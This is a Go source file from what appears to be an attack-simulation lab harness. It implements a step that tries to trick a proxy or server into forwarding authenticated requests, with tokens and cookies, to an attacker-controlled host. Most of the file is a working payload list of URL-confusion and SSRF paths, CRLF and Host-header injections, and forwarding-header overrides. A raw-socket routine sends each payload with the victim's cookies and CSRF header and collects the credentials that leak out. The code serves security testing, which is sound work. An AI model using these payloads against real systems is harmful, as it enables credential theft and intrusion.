package attack

import (
	"context"
	"fmt"
	"io"
	"net"
	"strings"
	"time"

	"cloakroom/shared"
)

// detours are paths below a route that have led some proxy elsewhere; %s is
// where to: a host and a port.
var detours = []string{
	"/api//%s/loot", "/api/@%s/loot", "/api/%%40%s/loot", "/api/%%2f%%2f%s/loot", "/api/..%%2f..%%2f%s/loot", "/api/%%5c%%5c%s/loot",
	"/api/http://%s/loot", "/api/http:%%2f%%2f%s/loot", "/api/..;/%s/loot", "/api/.%s/loot", "/api:@%s/loot", "/api@%s/loot", "//%s/api/loot",
	"/api/orders?url=http://%s/loot", "/api/orders?host=%s", "/api/redirect?to=http://%s/loot", "/api/%%00@%s/loot", "/api/%%0d%%0aHost:%%20%s/loot",
}

// astray is X7: have whoever adds tokens to requests send one to the attacker.
func (m *mission) astray(ctx context.Context) error {
	evil := strings.TrimPrefix(m.attacker.origin, "http://")
	before := len(m.attacker.caught(0))
	var paths []string
	for _, detour := range detours {
		paths = append(paths, fmt.Sprintf(detour, evil))
	}
	got, err := m.inject(ctx, "astray", map[string]string{"evil": evil, "paths": strings.Join(paths, "\n")})
	if err != nil {
		return err
	}
	if m.target.TokensInPage && got.Places["guarded"] != "true" {
		m.evidence.Missing = "nothing adds a token to what a page sends"
		return nil
	}
	m.step("the payload made %s calls with destinations of its own", got.Places["calls"])
	if !m.target.TokensInPage {
		if err := m.rawDetours(ctx, evil, paths); err != nil {
			return err
		}
	}
	strays := m.attacker.caught(before)
	m.step("%d requests arrived at %s", len(strays), m.attacker.origin)
	for _, s := range strays {
		if err := m.spend(ctx, sift(map[string]string{"fetch": s.credentials})); err != nil {
			return err
		}
	}
	return nil
}

// rawDetours sends what no browser sends, as it stands, with the victim's
// cookies: the lab lends them, since what is asked is where the server goes.
func (m *mission) rawDetours(ctx context.Context, evil string, paths []string) error {
	cookies, err := m.jar(ctx)
	if err != nil {
		return err
	}
	origin := m.world.Origin(m.target.ID)
	host := strings.TrimPrefix(origin, "http://")
	type try struct{ target, host, header string }
	var tries []try
	for _, path := range append(paths, "http://"+evil+"/api/loot", "http://"+host+"@"+evil+"/api/loot", "@"+evil+"/api/orders", "\\\\"+evil+"/api/orders",
		"/api/orders#@"+evil, "/api/\\@"+evil+"/loot", "/api/../../"+evil+"/loot") {
		tries = append(tries, try{path, host, ""})
	}
	tries = append(tries, try{"/api/orders", evil, ""}, try{"/api/orders", host, "Host: " + evil}, try{"http://" + host + "/api/orders", evil, ""})
	for _, name := range []string{"X-Forwarded-Host", "X-Host", "X-Original-Host", "X-Forwarded-Server", "X-Original-URL", "X-Rewrite-URL", "Destination"} {
		tries = append(tries, try{"/api/orders", host, name + ": " + evil}, try{"/api/orders", host, name + ": http://" + evil + "/loot"})
	}
	tries = append(tries, try{"/api/orders", host, "Forwarded: host=" + evil}, try{"/api/orders", host, "Connection: upgrade, host"})
	var dialer net.Dialer
	for _, one := range tries {
		conn, err := dialer.DialContext(ctx, "tcp", "127.0.0.1:"+host[strings.LastIndex(host, ":")+1:])
		if err != nil {
			return fmt.Errorf("attack: reach the application: %w", err)
		}
		lines := []string{"GET " + one.target + " HTTP/1.1", "Host: " + one.host, "Cookie: " + cookies, "Origin: " + origin,
			"Sec-Fetch-Site: same-origin", shared.HeaderCSRF + ": " + shared.ValueCSRF, "Connection: close"}
		if one.header != "" {
			lines = append(lines, one.header)
		}
		err = conn.SetDeadline(time.Now().Add(patience))
		if err == nil {
			_, err = io.WriteString(conn, strings.Join(lines, "\r\n")+"\r\n\r\n")
		}
		if err == nil {
			// To its end, or to its being hung up on: then all that was to be sent on
			// has been.
			_, _ = io.Copy(io.Discard, conn)
		}
		_ = conn.Close()
		if err != nil {
			return fmt.Errorf("attack: send a raw request: %w", err)
		}
	}
	m.step("the attacker's client sent %d more that no browser would, raw, with cookies that the lab lent it", len(tries))
	return nil
}
